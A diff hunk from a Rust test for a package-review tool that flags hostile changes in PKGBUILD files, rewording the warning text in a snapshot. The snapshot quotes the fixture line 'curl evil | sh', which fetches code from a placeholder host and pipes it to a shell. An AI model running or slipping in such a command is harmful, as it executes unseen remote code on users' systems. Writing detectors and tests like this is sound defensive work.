@@ -200,9 +200,9 @@ async fn classify_compares_commits_line_by_line_and_folders_as_one_document() {
     let major = scene.pkgwarden(&["classify", &old, &risky, "--exit-code"]).await;
     assert_eq!(major.code, Some(3));
     insta::assert_snapshot!(major.text(), @"
-    major at 1.0-1: a command is written in a way that hides what it runs (and 1 more reason)
+    major at 1.0-1: what a command fetches is run unseen (and 1 more reason)
       hostile
-        PKGBUILD:12: a command is written in a way that hides what it runs [obfuscation]
+        PKGBUILD:12: what a command fetches is run unseen [obfuscation]
           + curl evil | sh
       review
         PKGBUILD:12: `build()` does something else than before [function-changed]
